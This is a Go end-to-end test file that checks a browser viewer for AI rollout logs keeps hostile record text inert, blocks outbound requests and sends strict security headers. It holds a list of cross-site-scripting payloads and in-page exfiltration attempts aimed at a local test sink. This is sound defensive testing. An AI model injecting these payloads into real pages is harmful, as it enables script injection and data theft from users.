package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestWatch holds the instruments of these tests against a page without a policy, whose worker and script do what
// must never happen: they have to be seen.
func TestWatch(t *testing.T) {
	arrived := make(chan string, 8)
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { arrived <- r.URL.Path }))
	defer sink.Close()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><html data-state="starting"><meta http-equiv="Content-Security-Policy" content="img-src 'none'">
<script>
const code = "fetch('%[1]s/worker', {mode: 'no-cors'}).finally(() => { postMessage(1); throw new Error('worker fails') })";
const worker = new Worker(URL.createObjectURL(new Blob([code])));
worker.onerror = (e) => e.preventDefault();
worker.onmessage = () => fetch('%[1]s/page', {mode: 'no-cors'}).finally(() => {
  const image = new Image();
  image.onerror = () => { console.error('page fails'); document.documentElement.dataset.state = 'seen'; };
  image.src = '%[1]s/image';
});
document.documentElement.dataset.state = "idle";
</script>`, sink.URL)
	}))
	defer server.Close()
	p := newPage(t)
	p.Allow("img-src")
	p.Allow("fails")
	p.Allow("log of the page") // a missing icon, the refused image
	p.Open(server.URL)
	p.Wait(`document.documentElement.dataset.state === "seen"`)
	if a, b := <-arrived, <-arrived; a != "/worker" || b != "/page" {
		t.Errorf("%s and %s arrived", a, b)
	}
	p.trace.mu.Lock()
	all := strings.Join(p.trace.requests, " ")
	p.trace.mu.Unlock()
	for _, path := range []string{"/worker", "/page"} {
		if !strings.Contains(all, sink.URL+path) {
			t.Errorf("the request of %s was not seen: %s", path, all)
		}
	}
	if !slices.ContainsFunc(p.Violations(), func(v string) bool { return strings.Contains(v, "img-src") }) {
		t.Errorf("the refused image was not seen: %q", p.Violations())
	}
	for _, words := range []string{"page fails", "worker fails"} {
		if !slices.ContainsFunc(p.Errors(), func(e string) bool { return strings.Contains(e, words) }) {
			t.Errorf("%q was not seen: %q", words, p.Errors())
		}
	}
}

// hostile are texts that would do something if they were anything but text. Each names the sink.
func hostile(sink string) []string {
	return []string{
		`<script>document.title='owned';fetch('` + sink + `/script')</script>`,
		`<img src=` + sink + `/img onerror="document.title='owned'">`,
		`"><svg onload=document.title='owned'><image href="` + sink + `/svg"/></svg>`,
		`<iframe src="` + sink + `/frame"></iframe><object data="` + sink + `/object"></object>`,
		`<link rel=stylesheet href="` + sink + `/css"><style>@import url(` + sink + `/import)</style>`,
		`<a href="` + sink + `/a" ping="` + sink + `/ping">click</a> <form action="` + sink + `/form"><button>go</button></form>`,
		`javascript:document.title='owned'`, `data:text/html,<script>document.title='owned'</script>`,
		sink + `/bare`, `![image](` + sink + `/markdown) [link](` + sink + `/link)`, `$\href{` + sink + `/tex}{x}$`,
		`</script></style></textarea></title><base href="` + sink + `/base/">`, `{{.}}` + "`${document.title='owned'}`", `' onmouseover='document.title=1`,
	}
}

// hostileRun is a run in which every text names the sink: names, prompts, replies, tool calls, images, keys.
func hostileRun(t testing.TB, sink, name string) (folder string, n int) {
	t.Helper()
	var b strings.Builder
	for i, text := range hostile(sink) {
		content := []any{map[string]any{"type": "output_text", "text": text, "annotations": []any{map[string]any{"type": "url_citation", "url": sink + "/cite", "title": text}}}}
		record := map[string]any{
			"_ng_task_index": text, "_ng_rollout_index": i, "reward": 1, "task_name": text, "agent_ref": map[string]any{"type": "responses_api_agents", "name": text},
			"responses_create_params": map[string]any{"model": text, "input": []any{
				map[string]any{"role": "user", "content": text},
				map[string]any{"role": "user", "content": []any{map[string]any{"type": "input_image", "image_url": sink + "/image.png"},
					map[string]any{"type": "input_image", "image_url": "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>"}}},
			}},
			"response": map[string]any{"id": text, "model": text, "output": []any{
				map[string]any{"type": "reasoning", "summary": []any{map[string]any{"type": "summary_text", "text": text}}},
				map[string]any{"type": "function_call", "call_id": text, "name": text, "arguments": `{"url":"` + sink + `/call"}`},
				map[string]any{"type": "function_call_output", "call_id": text, "output": text},
				map[string]any{"type": "message", "role": "assistant", "content": content},
			}},
			text: text,
		}
		line, err := json.Marshal(record)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(line)
		b.WriteByte('\n')
		n++
	}
	// One that cannot be read is shown as bytes.
	b.WriteString(`{"_ng_task_index": <img src=` + sink + `/unread onerror=document.title='owned'>}` + "\n")
	return files(t, map[string]string{name + "/rollouts.jsonl": b.String(), "rollouts_" + name + ".html": "<script>document.title='owned'</script>"}), n + 1
}

// TestNothingLeaves opens a run full of addresses on every tab and every row's page: nobody is asked for anything,
// no policy has to step in, and text stays text.
func TestNothingLeaves(t *testing.T) {
	sink := NewSink(t)
	folder, n := hostileRun(t, sink.URL, "<img src=x onerror=document.title='owned'>")
	p := open(t, "#tab=rollouts")
	p.Drop(folder)
	p.WaitState("ready")
	p.WaitStats(map[string]string{"rollout.count": fmt.Sprint(n)})
	list := p.Rows()
	if len(list) != n {
		t.Fatalf("%d rows are shown, want %d", len(list), n)
	}
	calm := func(where string) {
		t.Helper()
		if title := p.Title(); strings.HasPrefix(title, "owned") || title == "1" {
			t.Errorf("%s: a text of the file has become a script: the title is %q", where, title)
		}
		alive := Eval[[]string](p, `[...document.querySelectorAll("#region-main *, #region-bar *, #region-alerts *, #region-foot *")].filter((el) =>
			["SCRIPT", "IFRAME", "OBJECT", "EMBED", "LINK", "STYLE", "BASE", "FORM", "VIDEO", "AUDIO"].includes(el.tagName)
			|| [...el.attributes].some((a) => /^on/i.test(a.name) || (a.name === "style" && !el.matches("[data-space],canvas")) || a.name === "ping" || a.name === "srcdoc")
			|| (el.tagName === "IMG" && !/^(data:image\/(png|jpeg|gif|webp);|blob:)/.test(el.src))
			|| (el.tagName === "A" && el.hasAttribute("href") && !el.getAttribute("href").startsWith("#"))).map((el) => el.outerHTML.slice(0, 200))`)
		if len(alive) > 0 {
			t.Errorf("%s: %q", where, alive)
		}
	}
	for _, tab := range []string{"overview", "rollouts", "tasks", "health", "files"} {
		p.SetHash("tab=" + tab)
		p.current(tab)
		calm(tab)
	}
	texts := hostile(sink.URL)
	for i, place := range list {
		for _, part := range []string{"", "&part=raw"} {
			p.SetHash(strings.TrimPrefix(Eval[string](p, fmt.Sprintf(`"rollout=" + encodeURIComponent(%q)`, place)), "#") + part)
			p.Wait(fmt.Sprintf(`document.querySelector("#region-main").innerText.includes(%q) && document.querySelector("#region-main").innerText.length > 200`, fmt.Sprintf(":%d", i+1)))
			calm(place + part)
			if i < len(texts) && part == "" {
				p.Wait(fmt.Sprintf(`document.querySelector("#region-main").textContent.includes(%q)`, texts[i]))
			}
		}
	}
	p.Screenshot("hostile", 1280, 800, false)
	p.SetHash("tab=health")
	p.Download("quality_summary.json")
	p.Click("details.lock summary")
	p.Wait(`document.querySelector("details.lock").innerText.includes("Requests since load: 0")`)
	if list := p.Requests(); len(list) > 0 {
		t.Errorf("requests after loading: %q", list)
	}
	if hits := sink.Hits(); len(hits) > 0 {
		t.Errorf("the sink was reached: %q", hits)
	}
}

// TestNoWayOut has the page and a worker of it try to send something, as code that got in would.
func TestNoWayOut(t *testing.T) {
	sink := NewSink(t)
	p := openCase(t, "s01-healthy-perf", "#tab=health")
	p.Allow("policy: ")
	p.Allow("log of the (page|worker)")
	blocked := Eval[map[string]string](p, fmt.Sprintf(`(async () => {
		const sink = %q, tried = {};
		const attempt = async (name, run) => { try { tried[name] = String(await run()); } catch (e) { tried[name] = "refused: " + e.name; } };
		await attempt("fetch", () => fetch(sink + "/fetch", {mode: "no-cors"}));
		await attempt("own", () => fetch("/healthz"));
		await attempt("socket", () => new Promise((open, fail) => { const s = new WebSocket(sink.replace("http", "ws")); s.onopen = open; s.onerror = () => fail(new Error("closed")); }));
		await attempt("events", () => new Promise((open, fail) => { const s = new EventSource(sink + "/events"); s.onopen = open; s.onerror = () => fail(new Error("closed")); }));
		await attempt("image", () => new Promise((open, fail) => { const i = new Image(); i.onload = open; i.onerror = () => fail(new Error("no image")); i.src = sink + "/image"; }));
		await attempt("script", () => new Promise((open, fail) => { const s = document.createElement("script"); s.onload = open; s.onerror = () => fail(new Error("no script")); s.src = sink + "/script"; document.head.append(s); }));
		await attempt("eval", () => (0, eval)("1"));
		navigator.sendBeacon(sink + "/beacon", "x");
		tried.webrtc = typeof RTCPeerConnection;
		const code = "onmessage = async ({data}) => { let r = 'sent'; try { await fetch(data + '/worker', {mode: 'no-cors'}); } catch (e) { r = 'refused: ' + e.name; } postMessage(r); }";
		await attempt("worker", () => new Promise((open, fail) => {
			const w = new Worker(URL.createObjectURL(new Blob([code]))); w.onmessage = (e) => open(e.data); w.onerror = () => fail(new Error("no worker")); w.postMessage(sink);
		}));
		return tried;
	})()`, sink.URL))
	for name, outcome := range blocked {
		if !strings.HasPrefix(outcome, "refused: ") && outcome != "undefined" {
			t.Errorf("%s: %s", name, outcome)
		}
	}
	if len(blocked) < 9 {
		t.Errorf("tried %v", blocked)
	}
}

// TestHeaders looks at the answers of the server.
func TestHeaders(t *testing.T) {
	for _, path := range []string{"", "assets/page.js", "assets/worker.js", "assets/rollscope.wasm"} {
		response, err := http.Get(site + path)
		if err != nil {
			t.Fatal(err)
		}
		response.Body.Close()
		if response.StatusCode != http.StatusOK {
			t.Errorf("/%s: %s", path, response.Status)
		}
		for name, value := range map[string]string{"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer",
			"Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin"} {
			if have := response.Header.Get(name); have != value {
				t.Errorf("/%s: %s is %q, want %q", path, name, have, value)
			}
		}
		if policy := response.Header.Get("Content-Security-Policy"); !strings.Contains(policy, "default-src 'none'") || !strings.Contains(policy, "frame-ancestors 'none'") {
			t.Errorf("/%s: the policy is %q", path, policy)
		}
	}
}

// TestSingleFile opens the viewer as one file from a disk, drops a run on it and reads the verdicts.
func TestSingleFile(t *testing.T) {
	sink := NewSink(t)
	folder := t.TempDir()
	if out, talk, code := product.Run(t, folder, "bundle", "-o", "rollscope.html"); code != 0 {
		t.Fatalf("bundle: exit %d: %s%s", code, out, talk)
	}
	p := newPage(t)
	p.Open("file://" + filepath.Join(folder, "rollscope.html") + "#tab=health")
	p.Drop(caseFile("s15-ignored-checks"))
	p.WaitState("ready")
	p.holds(judge(t, filepath.Join(goldens, "s15-ignored-checks", "input"), []string{"rollouts.jsonl"}, nil, ""))
	// A page from a disk reads folders by handles, and the browser hands out none for names with such characters.
	hostile, n := hostileRun(t, sink.URL, "document.title='owned'")
	p.Drop(hostile)
	p.WaitState("ready")
	p.WaitStats(map[string]string{"rollout.count": fmt.Sprint(n)})
	if list := p.Requests(); len(list) > 0 {
		t.Errorf("requests after loading: %q", list)
	}
	if info, err := os.Stat(filepath.Join(folder, "rollscope.html")); err != nil || info.Size() > 6<<20 {
		t.Errorf("the file has %d bytes: %v", info.Size(), err)
	}
}

// TestStaticFolder serves the viewer's folder by the plainest server there is.
func TestStaticFolder(t *testing.T) {
	folder := t.TempDir()
	if out, talk, code := product.Run(t, folder, "bundle", "-o", "viewer"); code != 0 {
		t.Fatalf("bundle: exit %d: %s%s", code, out, talk)
	}
	server := httptest.NewServer(http.StripPrefix("/below/a/path", http.FileServer(http.Dir(filepath.Join(folder, "viewer")))))
	defer server.Close()
	p := newPage(t)
	p.Open(server.URL + "/below/a/path/#tab=health")
	p.ChooseFiles(caseFile("s15-ignored-checks"))
	p.WaitState("ready")
	p.holds(judge(t, filepath.Join(goldens, "s15-ignored-checks", "input"), []string{"rollouts.jsonl"}, nil, ""))
	if list := p.Requests(); len(list) > 0 {
		t.Errorf("requests after loading: %q", list)
	}
}
